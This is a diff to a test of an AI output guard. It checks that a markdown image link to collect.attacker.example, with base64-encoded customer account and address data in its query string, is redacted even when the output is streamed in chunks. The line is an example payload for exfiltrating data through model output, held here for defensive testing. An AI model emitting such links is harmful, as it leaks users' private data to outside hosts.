@@ -118,7 +118,11 @@ def test_a_known_canary_is_watched_again_after_a_restart() -> None:
 def test_an_exfiltration_link_split_across_chunks_is_redacted_whole() -> None:
     guard = aispm.Guard()
     payload = base64.urlsafe_b64encode(b"the customer's account number and home address").decode()
-    text = "Done. " + "All good here. " * 12 + f"![status](https://collect.attacker.example/p.png?d={payload}) Bye."
+    text = (
+        "Done. "
+        + "All good here. " * 12
+        + f"![status](https://collect.attacker.example/{'static/' * 20}p.png?d={payload}) Bye."
+    )
     one_shot = guard.output.scan(text).text
     assert "attacker.example" not in one_shot
     for size in (1, 5, 17, 64):
